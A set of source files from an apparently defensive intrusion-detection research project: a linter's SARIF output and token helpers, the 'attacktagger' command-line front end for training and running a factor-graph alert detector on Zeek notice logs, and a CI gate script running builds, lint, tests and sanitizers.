                v.message.c_str(), v.excerpt.c_str());
  }
  if (violations.empty()) {
    std::printf("at_lint: %zu files clean (%zu allowlist entries)\n", files.size(),
                allow.size());
    return 0;
  }
  std::printf("at_lint: %zu violation(s)\n", violations.size());
  return 1;
}
