#include "at_lint/sarif.hpp"

#include <cstdio>
#include <sstream>

namespace at::lint {

std::string json_escape(std::string_view text) {
  std::string out;
  out.reserve(text.size() + 8);
  for (const char c : text) {
    switch (c) {
      case '"':
        out += "\\\"";
        break;
      case '\\':
        out += "\\\\";
        break;
      case '\n':
        out += "\\n";
        break;
      case '\r':
        out += "\\r";
        break;
      case '\t':
        out += "\\t";
        break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof buf, "\\u%04x", static_cast<unsigned>(c));
          out += buf;
        } else {
          out += c;
        }
    }
  }
  return out;
}

std::string to_sarif(const std::vector<Violation>& violations) {
  std::ostringstream out;
  out << R"({"$schema":"https://json.schemastore.org/sarif-2.1.0.json",)"
      << R"("version":"2.1.0","runs":[{"tool":{"driver":{)"
      << R"("name":"at_lint","informationUri":"docs/static-analysis.md",)"
      << R"("version":"2.0.0","rules":[)";
  bool first = true;
  for (const Check* check : registry()) {
    if (!first) out << ',';
    first = false;
    out << R"({"id":")" << json_escape(check->name()) << R"(",)"
        << R"("shortDescription":{"text":")" << json_escape(check->summary())
        << R"("}})";
  }
  out << R"(]}},"results":[)";
  first = true;
  for (const Violation& v : violations) {
    if (!first) out << ',';
    first = false;
    out << R"({"ruleId":")" << json_escape(v.rule) << R"(",)"
        << R"("level":"error","message":{"text":")" << json_escape(v.message)
        << R"("},"locations":[{"physicalLocation":{)"
        << R"("artifactLocation":{"uri":")" << json_escape(v.file)
        << R"(","uriBaseId":"SRCROOT"},)"
        << R"("region":{"startLine":)" << (v.line == 0 ? 1 : v.line);
    // Column 0 means a line-granular finding (project-wide rules); SARIF
    // then defaults startColumn to 1, which is what renderers expect.
    if (v.column > 0) out << R"(,"startColumn":)" << v.column;
    out << "}}}]}";
  }
  out << "]}]}";
  return out.str();
}

}  // namespace at::lint
