#pragma once
// SARIF 2.1.0 serialization of lint findings, the interchange format GitHub
// code-scanning ingests to annotate PRs. One run, one driver ("at_lint"),
// one reportingDescriptor per registered rule, one result per violation.

#include <string>
#include <vector>

#include "at_lint/lint.hpp"

namespace at::lint {

/// Minified SARIF 2.1.0 document for `violations`. Deterministic: rules in
/// registry order, results in the (already sorted) input order.
[[nodiscard]] std::string to_sarif(const std::vector<Violation>& violations);

/// JSON string escaping per RFC 8259 (quotes, backslashes, control chars).
[[nodiscard]] std::string json_escape(std::string_view text);

}  // namespace at::lint
