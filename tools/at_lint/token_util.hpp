#pragma once
// Small token-cursor helpers shared by the engine (lint.cpp) and the rules
// (checks.cpp). All functions are bounds-tolerant: out-of-range indices and
// unbalanced input return kNpos instead of walking off the stream, so rules
// degrade to false negatives on malformed code (never crashes, never FPs).

#include <cstddef>
#include <string_view>
#include <vector>

#include "at_lint/lexer.hpp"

namespace at::lint::tok {

inline constexpr std::size_t kNpos = static_cast<std::size_t>(-1);

inline bool is(const std::vector<Token>& toks, std::size_t i, std::string_view text) {
  return i < toks.size() && toks[i].text == text;
}

inline bool is_ident(const std::vector<Token>& toks, std::size_t i, std::string_view text) {
  return i < toks.size() && toks[i].kind == TokKind::kIdent && toks[i].text == text;
}

inline bool is_punct(const std::vector<Token>& toks, std::size_t i, std::string_view text) {
  return i < toks.size() && toks[i].kind == TokKind::kPunct && toks[i].text == text;
}

/// Index of the matching `close` for the `open` punct at `open_idx`
/// (which must be the opener), or kNpos when unbalanced.
inline std::size_t match_forward(const std::vector<Token>& toks, std::size_t open_idx,
                                 std::string_view open, std::string_view close) {
  if (!is_punct(toks, open_idx, open)) return kNpos;
  std::size_t depth = 0;
  for (std::size_t i = open_idx; i < toks.size(); ++i) {
    if (is_punct(toks, i, open)) ++depth;
    if (is_punct(toks, i, close) && --depth == 0) return i;
  }
  return kNpos;
}

/// Skip a template argument list whose `<` is at `open_idx`; returns the
/// index of the closing `>` (counting `>>` as two closers), or kNpos when
/// this `<` is a comparison rather than an argument list (heuristic: hitting
/// `;`, `{`, or `}` first, or running 256 tokens without closing).
inline std::size_t skip_template_args(const std::vector<Token>& toks, std::size_t open_idx) {
  if (!is_punct(toks, open_idx, "<")) return kNpos;
  std::size_t depth = 0;
  const std::size_t limit = open_idx + 256 < toks.size() ? open_idx + 256 : toks.size();
  for (std::size_t i = open_idx; i < limit; ++i) {
    const Token& t = toks[i];
    if (t.kind != TokKind::kPunct) continue;
    if (t.text == "<") ++depth;
    if (t.text == ">" && --depth == 0) return i;
    if (t.text == ">>") {
      if (depth <= 2) return i;
      depth -= 2;
    }
    if (t.text == ";" || t.text == "{" || t.text == "}") return kNpos;
  }
  return kNpos;
}

/// For a lambda introducer `[` at `i`, the index of its body's `{`; kNpos
/// when `i` is not a lambda (subscript, attribute that leads nowhere, ...).
inline std::size_t lambda_body(const std::vector<Token>& toks, std::size_t i) {
  if (!is_punct(toks, i, "[")) return kNpos;
  if (i > 0) {
    const Token& prev = toks[i - 1];
    const bool subscript = prev.kind == TokKind::kIdent || prev.kind == TokKind::kNumber ||
                           prev.kind == TokKind::kString ||
                           (prev.kind == TokKind::kPunct &&
                            (prev.text == ")" || prev.text == "]"));
    if (subscript) return kNpos;
  }
  const std::size_t close = match_forward(toks, i, "[", "]");
  if (close == kNpos) return kNpos;
  std::size_t j = close + 1;
  if (is_punct(toks, j, "(")) {
    const std::size_t params_close = match_forward(toks, j, "(", ")");
    if (params_close == kNpos) return kNpos;
    j = params_close + 1;
  }
  // Specifiers / trailing return type before the body, bounded so a
  // misidentified attribute can't scan far.
  for (std::size_t steps = 0; steps < 24 && j < toks.size(); ++steps, ++j) {
    const Token& t = toks[j];
    if (is_punct(toks, j, "{")) return j;
    if (t.kind == TokKind::kIdent || t.text == "->" || t.text == "::" || t.text == "<" ||
        t.text == ">" || t.text == ",") {
      continue;
    }
    if (is_punct(toks, j, "(")) {  // noexcept(...)
      const std::size_t c = match_forward(toks, j, "(", ")");
      if (c == kNpos) return kNpos;
      j = c;
      continue;
    }
    return kNpos;
  }
  return kNpos;
}

/// Concatenated spelling of tokens [begin, end), dropping a leading
/// `this->`. Used to normalize mutex argument expressions.
inline std::string spelling(const std::vector<Token>& toks, std::size_t begin,
                            std::size_t end) {
  std::size_t b = begin;
  if (is_ident(toks, b, "this") && is_punct(toks, b + 1, "->")) b += 2;
  std::string out;
  for (std::size_t i = b; i < end && i < toks.size(); ++i) out += toks[i].text;
  return out;
}

}  // namespace at::lint::tok
