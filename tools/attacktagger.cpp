// attacktagger — command-line front end for the testbed library.
//
//   attacktagger corpus  --out DIR [--seed N] [--scale F]
//       generate the calibrated incident corpus; write the Zeek notice
//       log, per-incident reports, and a stats summary into DIR.
//   attacktagger mine    [--seed N]
//       print the S1..S43 mining table and the four insights.
//   attacktagger train   --out FILE [--seed N]
//       learn factor-graph parameters and save them (versioned format).
//   attacktagger detect  --model FILE --log FILE [--threshold P] [--shards N]
//       stream a notice log through per-entity detectors; print pages.
//       With --shards N the log is batch-parsed (zero copy) and run through
//       the sharded pipeline (scan filter + BHR blocking, N entity shards).
//   attacktagger daemon  --model FILE --log FILE [--threshold P] [--shards N]
//                        [--ring SLOTS]
//       replay a notice log through the always-on DetectionDaemon,
//       printing typed alerts (verdicts, BHR actions, checkpoints,
//       lifecycle) as they drain, then the counter table (docs/daemon.md).
//   attacktagger fig1    --out DIR
//       build the Figure 1 graph, lay it out, export DOT/GEXF/CSV.
//   attacktagger replay
//       run the Section V ransomware case study on a fresh testbed.
//   attacktagger vrt     --package NAME --date YYYYMMDD
//       resolve a dated vulnerable-container build.

#include <cstdio>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <map>
#include <sstream>

#include "alerts/zeeklog.hpp"
#include "analysis/insights.hpp"
#include "bhr/bhr.hpp"
#include "detect/eval.hpp"
#include "fg/params_io.hpp"
#include "incidents/annotate.hpp"
#include "incidents/report.hpp"
#include "replay/ransomware.hpp"
#include "testbed/daemon.hpp"
#include "testbed/sharded_pipeline.hpp"
#include "util/parse.hpp"
#include "util/strings.hpp"
#include "viz/export.hpp"
#include "viz/fig1.hpp"
#include "viz/layout.hpp"
#include "vrt/builder.hpp"

namespace {

using namespace at;

std::map<std::string, std::string> parse_flags(int argc, char** argv, int first) {
  std::map<std::string, std::string> flags;
  for (int i = first; i + 1 < argc; i += 2) {
    if (std::strncmp(argv[i], "--", 2) != 0) break;
    flags[argv[i] + 2] = argv[i + 1];
  }
  return flags;
}

std::string flag(const std::map<std::string, std::string>& flags, const std::string& key,
                 const std::string& fallback) {
  const auto it = flags.find(key);
  return it == flags.end() ? fallback : it->second;
}

/// Numeric flag with a usage error instead of the uncaught std::sto*
/// exception a typo used to produce.
template <typename T>
T num_flag(const std::map<std::string, std::string>& flags, const std::string& key,
           const std::string& fallback) {
  const std::string text = flag(flags, key, fallback);
  std::optional<T> value;
  if constexpr (std::is_floating_point_v<T>) {
    const auto parsed = util::parse_double(text);
    if (parsed) value = static_cast<T>(*parsed);
  } else {
    value = util::parse_num<T>(text);
  }
  if (!value) {
    std::fprintf(stderr, "attacktagger: --%s expects a number, got '%s'\n", key.c_str(),
                 text.c_str());
    std::exit(2);
  }
  return *value;
}

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw std::runtime_error("cannot open " + path);
  std::ostringstream out;
  out << in.rdbuf();
  return out.str();
}

incidents::Corpus make_corpus(const std::map<std::string, std::string>& flags) {
  incidents::CorpusConfig config;
  config.seed = num_flag<std::uint64_t>(flags, "seed", "42");
  config.repetition_scale = num_flag<double>(flags, "scale", "0.05");
  return incidents::CorpusGenerator(config).generate();
}

int cmd_corpus(const std::map<std::string, std::string>& flags) {
  const std::string out_dir = flag(flags, "out", "corpus_out");
  std::filesystem::create_directories(out_dir);
  std::filesystem::create_directories(out_dir + "/reports");
  const auto corpus = make_corpus(flags);

  std::vector<alerts::Alert> all;
  for (const auto& incident : corpus.incidents) {
    for (const auto& entry : incident.timeline) all.push_back(entry.alert);
    viz::write_file(out_dir + "/reports/incident-" + std::to_string(incident.id) + ".txt",
                    incidents::write_report(incident));
  }
  viz::write_file(out_dir + "/notices.log", alerts::write_notice_log(all));

  const auto annotation = incidents::AnnotationPipeline{}.annotate(corpus);
  std::ostringstream stats;
  stats << "incidents " << corpus.stats.incidents << "\n"
        << "raw_alerts " << corpus.stats.raw_alerts << "\n"
        << "filtered_alerts " << corpus.stats.filtered_alerts << "\n"
        << "motif_incidents " << corpus.stats.motif_incidents << "\n"
        << "critical_occurrences " << corpus.stats.critical_occurrences << "\n"
        << "auto_annotated_fraction " << annotation.auto_fraction() << "\n";
  viz::write_file(out_dir + "/stats.txt", stats.str());
  std::printf("wrote %zu notices, %zu reports, stats -> %s/\n", all.size(),
              corpus.incidents.size(), out_dir.c_str());
  return 0;
}

int cmd_mine(const std::map<std::string, std::string>& flags) {
  const auto corpus = make_corpus(flags);
  const auto mined = analysis::mine_core_sequences(corpus.incidents);
  std::printf("%zu distinct sequences; S1 x%zu; lengths %zu..%zu; motif in %zu/%zu\n",
              mined.sequences.size(), mined.sequences[0].count, mined.min_length,
              mined.max_length, mined.containing(incidents::Catalog::motif()),
              corpus.incidents.size());
  const auto i1 = analysis::measure_insight1(corpus);
  std::printf("insight1: %.2f%% of pairs <= 1/3 similarity\n",
              100.0 * i1.fraction_pairs_at_or_below_third);
  const auto i3 = analysis::measure_insight3(corpus);
  std::printf("insight3: recon cv %.2f vs manual cv %.2f\n", i3.recon_gap_cv,
              i3.manual_gap_cv);
  const auto i4 = analysis::measure_insight4(corpus);
  std::printf("insight4: %zu critical types, %zu occurrences, relpos %.2f\n",
              i4.distinct_critical_types, i4.critical_occurrences,
              i4.mean_relative_position);
  return 0;
}

int cmd_train(const std::map<std::string, std::string>& flags) {
  const std::string out = flag(flags, "out", "model.attacktagger");
  const auto corpus = make_corpus(flags);
  const auto params = fg::learn_params(corpus);
  viz::write_file(out, fg::write_params(params));
  std::printf("trained on %zu incidents -> %s\n", corpus.incidents.size(), out.c_str());
  return 0;
}

int cmd_detect(const std::map<std::string, std::string>& flags) {
  const auto model_text = read_file(flag(flags, "model", "model.attacktagger"));
  const auto params = fg::read_params(model_text);
  if (!params) {
    std::fprintf(stderr, "error: model file is not a valid attacktagger model\n");
    return 1;
  }
  const double threshold = num_flag<double>(flags, "threshold", "0.75");
  auto log_text = read_file(flag(flags, "log", "notices.log"));

  const std::size_t shards = num_flag<std::size_t>(flags, "shards", "0");
  if (shards > 0) {
    // Batch path: zero-copy parse into the sharded pipeline, which adds
    // the periodic-scan filter and BHR blocking the live testbed runs.
    const auto batch = alerts::parse_notice_batch(std::move(log_text));
    std::printf("loaded model; %zu notices (%zu malformed); %zu shards\n", batch.size(),
                batch.malformed, shards);
    testbed::ShardedPipelineConfig config;
    config.shards = shards;
    bhr::BlackHoleRouter router;
    testbed::ShardedAlertPipeline pipeline(config, &router);
    auto compiled = fg::compile_params(*params);
    pipeline.add_detector("factor-graph", [compiled, threshold] {
      return std::make_unique<detect::FactorGraphDetector>(compiled, threshold);
    });
    pipeline.ingest(batch);
    pipeline.flush();
    for (const auto& note : pipeline.notifications()) {
      std::printf("PAGE %s entity=%s %s\n", util::format_datetime(note.ts).c_str(),
                  note.entity.c_str(), note.reason.c_str());
    }
    std::printf("%llu kept of %llu alerts, %zu entities, %zu pages, %zu BHR calls\n",
                static_cast<unsigned long long>(pipeline.alerts_after_filter()),
                static_cast<unsigned long long>(pipeline.alerts_in()),
                pipeline.tracked_entities(), pipeline.notifications().size(),
                router.audit_log().size());
    return 0;
  }

  const auto log = alerts::read_notice_log(log_text);
  std::printf("loaded model; %zu notices (%zu malformed)\n", log.alerts.size(),
              log.malformed);

  // Per-entity streams, keyed like the live pipeline (host first).
  std::map<std::string, detect::FactorGraphDetector> entities;
  std::map<std::string, std::size_t> indices;
  std::size_t pages = 0;
  for (const auto& alert : log.alerts) {
    const std::string key = !alert.host.empty()
                                ? alert.host
                                : (alert.src ? alert.src->str() : alert.user);
    auto [it, inserted] = entities.try_emplace(key, *params, threshold);
    const auto detection = it->second.observe(alert, indices[key]++);
    if (detection) {
      ++pages;
      std::printf("PAGE %s entity=%s %s\n", util::format_datetime(alert.ts).c_str(),
                  key.c_str(), detection->reason.c_str());
    }
  }
  std::printf("%zu entities, %zu pages\n", entities.size(), pages);
  return 0;
}

int cmd_daemon(const std::map<std::string, std::string>& flags) {
  const auto model_text = read_file(flag(flags, "model", "model.attacktagger"));
  const auto params = fg::read_params(model_text);
  if (!params) {
    std::fprintf(stderr, "error: model file is not a valid attacktagger model\n");
    return 1;
  }
  const double threshold = num_flag<double>(flags, "threshold", "0.75");
  auto log_text = read_file(flag(flags, "log", "notices.log"));
  const auto batch = alerts::parse_notice_batch(std::move(log_text));

  testbed::DaemonConfig config;
  config.shards = num_flag<std::size_t>(flags, "shards", "8");
  config.ring_capacity = num_flag<std::size_t>(flags, "ring", "8192");
  bhr::BlackHoleRouter router;
  testbed::DetectionDaemon daemon(config, &router);
  auto compiled = fg::compile_params(*params);
  daemon.add_detector("factor-graph", [compiled, threshold] {
    return std::make_unique<detect::FactorGraphDetector>(compiled, threshold);
  });

  std::printf("replaying %zu notices (%zu malformed) through %zu shards\n",
              batch.size(), batch.malformed, daemon.shard_count());
  const auto print_drained = [&daemon](std::uint32_t mask) {
    std::size_t printed = 0;
    for (const auto& alert : daemon.drain_alerts(mask)) {
      std::printf("%s\n", alert->str().c_str());
      ++printed;
    }
    return printed;
  };
  // Blocking submits (a replay never drops); drain the operator queue
  // periodically the way a live console would, instead of once at the end.
  std::size_t typed_alerts = 0;
  for (std::size_t row = 0; row < batch.size(); ++row) {
    daemon.submit(batch, row);
    if ((row + 1) % 4096 == 0) typed_alerts += print_drained(alerts::DaemonAlert::kAllCategories);
  }
  daemon.drain_idle();
  daemon.stop();
  typed_alerts += print_drained(alerts::DaemonAlert::kAllCategories);

  std::printf("\n%zu typed alerts drained; %zu BHR audit entries\n%s", typed_alerts,
              router.audit_log().size(), daemon.stats().to_table().render().c_str());
  return 0;
}

int cmd_fig1(const std::map<std::string, std::string>& flags) {
  const std::string out_dir = flag(flags, "out", "fig1_out");
  std::filesystem::create_directories(out_dir);
  auto data = viz::build_fig1();
  viz::LayoutOptions options;
  options.iterations = num_flag<std::size_t>(flags, "iterations", "60");
  viz::run_layout(data.graph, options);
  viz::write_file(out_dir + "/fig1.dot", viz::to_dot(data.graph, true));
  viz::write_file(out_dir + "/fig1.gexf", viz::to_gexf(data.graph));
  viz::write_file(out_dir + "/fig1_edges.csv", viz::to_edge_csv(data.graph));
  std::printf("%zu nodes / %zu edges -> %s/\n", data.graph.node_count(),
              data.graph.edge_count(), out_dir.c_str());
  return 0;
}

int cmd_replay(const std::map<std::string, std::string>& flags) {
  const auto corpus = make_corpus(flags);
  testbed::Testbed bed(testbed::TestbedConfig{}, corpus);
  bed.deploy(0);
  replay::RansomwareScenario ransomware;
  std::vector<replay::Scenario*> scenarios{&ransomware};
  replay::run_scenarios(bed, scenarios, 0);
  const auto note = replay::first_notification_after(bed, 0, "factor-graph");
  if (note) {
    std::printf("detected %.1f min after entry; lead %.2f days; %zu hosts infected\n",
                static_cast<double>(note->ts - ransomware.entry_time()) / util::kMinute,
                static_cast<double>(ransomware.second_wave_time() - note->ts) / util::kDay,
                ransomware.compromised().size());
    return 0;
  }
  std::printf("no detection\n");
  return 1;
}

int cmd_appendix(const std::map<std::string, std::string>& flags) {
  // The paper: "common alert sequences (name from S1 to S43, which we will
  // release in the Appendix upon publication of the paper)". This emits
  // that appendix as markdown from the calibrated catalog.
  const std::string out = flag(flags, "out", "docs/APPENDIX_S1_S43.md");
  std::filesystem::create_directories(std::filesystem::path(out).parent_path());
  incidents::Catalog catalog;
  std::ostringstream md;
  md << "# Appendix: recurring alert sequences S1..S" << catalog.size() << "\n\n"
     << "The " << catalog.size() << " recurring alert sequences mined from the "
     << catalog.total_incidents() << "-incident corpus (2002-2024).\n"
     << catalog.motif_incidents() << " incidents ("
     << util::fmt_double(100.0 * static_cast<double>(catalog.motif_incidents()) /
                             static_cast<double>(catalog.total_incidents()),
                         2)
     << "%) contain the 2002 foothold motif *download -> compile -> erase trace*.\n\n"
     << "| id | seen | len | family | alert sequence |\n"
     << "|---|---|---|---|---|\n";
  for (const auto& seq : catalog.sequences()) {
    md << "| " << seq.name << " | " << seq.frequency << " | " << seq.alerts.size() << " | "
       << seq.family << " | ";
    for (std::size_t i = 0; i < seq.alerts.size(); ++i) {
      if (i) md << " → ";
      md << "`" << std::string(alerts::symbol(seq.alerts[i])).substr(6) << "`";
    }
    md << " |\n";
  }
  md << "\nCritical (\"too late\") alert types: "
     << alerts::critical_types().size() << ", occurring "
     << catalog.critical_occurrences() << " times across the corpus.\n";
  viz::write_file(out, md.str());
  std::printf("wrote %s (%zu sequences)\n", out.c_str(), catalog.size());
  return 0;
}

int cmd_vrt(const std::map<std::string, std::string>& flags) {
  vrt::SnapshotArchive archive;
  vrt::ContainerBuilder builder(archive);
  const auto result =
      builder.build(flag(flags, "package", "openssl"), flag(flags, "date", "20140401"));
  if (!result.success) {
    for (const auto& error : result.errors) std::printf("error: %s\n", error.c_str());
    return 1;
  }
  std::printf("%s:\n", result.distribution.c_str());
  for (const auto& pkg : result.closure) {
    std::printf("  %-12s %-10s %s\n", pkg.package.c_str(), pkg.version.c_str(),
                pkg.cve.c_str());
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) {
    std::fprintf(stderr,
                 "usage: attacktagger <corpus|mine|train|detect|daemon|fig1|replay|vrt|"
                 "appendix> [--flag value ...]\n");
    return 2;
  }
  const std::string command = argv[1];
  const auto flags = parse_flags(argc, argv, 2);
  try {
    if (command == "corpus") return cmd_corpus(flags);
    if (command == "mine") return cmd_mine(flags);
    if (command == "train") return cmd_train(flags);
    if (command == "detect") return cmd_detect(flags);
    if (command == "daemon") return cmd_daemon(flags);
    if (command == "fig1") return cmd_fig1(flags);
    if (command == "replay") return cmd_replay(flags);
    if (command == "vrt") return cmd_vrt(flags);
    if (command == "appendix") return cmd_appendix(flags);
  } catch (const std::exception& e) {
    std::fprintf(stderr, "error: %s\n", e.what());
    return 1;
  }
  std::fprintf(stderr, "unknown command '%s'\n", command.c_str());
  return 2;
}
