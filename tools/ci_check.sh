#!/usr/bin/env bash
# Pre-PR gate: run this from the repo root before opening a PR. It fails on
# ANY compiler warning (AT_WERROR plus a belt-and-braces log scan), any
# at_lint violation (including the header self-containment TUs), any ctest
# failure, and — in the sanitizer stage — any ASan/UBSan report from the
# parser-facing unit tests (the zeeklog + factor-graph suites, the code
# most exposed to hostile input).
#
# Usage: tools/ci_check.sh [--skip-sanitizers]
#
# Stages:
#   1. configure + build   build-ci/        -Wall -Wextra -Werror (AT_WERROR=ON)
#   2. lint                cmake --target lint (header TUs + at_lint sweep),
#                          stale-suppression gate, warm-rerun 3s budget
#   3. dataflow fixtures   the v4 rule suites (taint / dangling-view /
#                          growth / cache round-trip) as a focused gtest pass
#   4. ctest               full suite, parallel
#   5. sanitizers          build-asan/      AT_SANITIZE=address,undefined,
#                          then the zeeklog/fg gtest suites under ASan+UBSan;
#                          build-tsan/      AT_SANITIZE=thread, then the
#                          epoch-reclamation + concurrent-BHR suites

set -euo pipefail

cd "$(dirname "$0")/.."

SKIP_SANITIZERS=0
for arg in "$@"; do
  case "$arg" in
    --skip-sanitizers) SKIP_SANITIZERS=1 ;;
    *) echo "usage: tools/ci_check.sh [--skip-sanitizers]" >&2; exit 2 ;;
  esac
done

JOBS="$(nproc 2>/dev/null || echo 2)"
fail() { echo "ci_check: FAIL: $*" >&2; exit 1; }

echo "=== [1/5] configure + build (warnings are errors) ==="
cmake -B build-ci -S . -DAT_WERROR=ON > /dev/null
BUILD_LOG="$(mktemp)"
trap 'rm -f "$BUILD_LOG"' EXIT
if ! cmake --build build-ci -j "$JOBS" 2>&1 | tee "$BUILD_LOG"; then
  fail "build failed"
fi
# -Werror already promotes warnings, but scan the log too so nothing that
# slips past (e.g. linker or CMake warnings) rides through silently.
if grep -iE "warning[ :]" "$BUILD_LOG" > /dev/null; then
  grep -inE "warning[ :]" "$BUILD_LOG" >&2
  fail "build log contains warnings"
fi

echo "=== [2/5] lint (header TUs + at_lint sweep + stale-suppression gate) ==="
cmake --build build-ci --target lint -j "$JOBS" || fail "lint"
# The lint target already passes --check-stale-allowlist, but run the gate
# explicitly too so a CMake edit can't silently drop it: an allowlist entry
# or inline allow() suppression that no longer matches any finding must be
# deleted, not accumulated.
./build-ci/tools/at_lint --root . --allowlist tools/at_lint/allowlist.txt \
  --cache build-ci/at_lint.cache --check-stale-allowlist > /dev/null \
  || fail "stale suppressions (run with --check-stale-allowlist for the list)"
# Warm-rerun budget: with the fact cache populated by the runs above, a
# whole-program pass must re-extract nothing and finish under 3 seconds —
# the same tripwire CI enforces, so cache regressions fail before the PR.
# (2s through v3; the v4 taint worklist + flow-summary relink buys a
# second of headroom on slow runners while still catching a broken cache,
# whose symptom is a full re-extraction measured in tens of seconds.)
LINT_START=$(date +%s%N)
LINT_OUT=$(./build-ci/tools/at_lint --root . --allowlist tools/at_lint/allowlist.txt \
  --cache build-ci/at_lint.cache --stats) || fail "warm lint rerun"
LINT_MS=$(( ($(date +%s%N) - LINT_START) / 1000000 ))
echo "$LINT_OUT"
echo "warm lint wall time: ${LINT_MS} ms"
echo "$LINT_OUT" | grep -q " 0 analyzed" || fail "warm lint re-extracted files"
[ "$LINT_MS" -lt 3000 ] || fail "warm lint exceeded 3s budget (${LINT_MS} ms)"

echo "=== [3/5] dataflow fixture suite (taint / dangling-view / growth) ==="
# The v4 rules' positive+negative fixtures in one fast pass: a rule whose
# detector regressed to silence (or to noise) fails here even if the
# repo-wide sweep above happens to stay clean.
./build-ci/tests/at_tests \
  --gtest_filter='AtLintTaint*:AtLintDanglingView*:AtLintGrowth*:AtLintCacheV4*:AtLintStaleSuppression*' \
  || fail "dataflow fixture suite"

echo "=== [4/5] ctest ==="
ctest --test-dir build-ci --output-on-failure -j "$JOBS" || fail "ctest"

if [[ "$SKIP_SANITIZERS" == "1" ]]; then
  echo "=== [5/5] sanitizers: SKIPPED (--skip-sanitizers) ==="
else
  echo "=== [5/5] ASan+UBSan: zeeklog + factor-graph unit tests ==="
  cmake -B build-asan -S . -DAT_SANITIZE=address,undefined \
        -DCMAKE_BUILD_TYPE=RelWithDebInfo > /dev/null
  cmake --build build-asan -j "$JOBS" --target at_tests > /dev/null \
    || fail "sanitizer build"
  # halt_on_error makes any UBSan diagnostic fatal so it fails the gate
  # instead of scrolling past; detect_leaks exercises the arena/string_view
  # ownership story in AlertBatch.
  UBSAN_OPTIONS=halt_on_error=1:print_stacktrace=1 \
  ASAN_OPTIONS=detect_leaks=1 \
    ./build-asan/tests/at_tests \
      --gtest_filter='ZeekLog*:ZeeklogMalformed*:BpTest*:ChainTest*:EnumerateTest*:FactorGraphTest*:ModelTest*:IncrementalBp*:EntityBatchBp*' \
    || fail "sanitized tests"

  echo "=== [5/5] TSan: epoch reclamation + concurrent BHR readers ==="
  # The lock-free read path's race coverage: a missing acquire/release edge
  # in the trie's COW publishes or the epoch pin protocol shows up here.
  cmake -B build-tsan -S . -DAT_SANITIZE=thread \
        -DCMAKE_BUILD_TYPE=RelWithDebInfo > /dev/null
  cmake --build build-tsan -j "$JOBS" --target at_tests > /dev/null \
    || fail "tsan build"
  TSAN_OPTIONS=halt_on_error=1 \
    ./build-tsan/tests/at_tests \
      --gtest_filter='Epoch*:BhrConcurrent*:LpmTrie*' \
    || fail "tsan tests"
fi

echo "ci_check: OK"
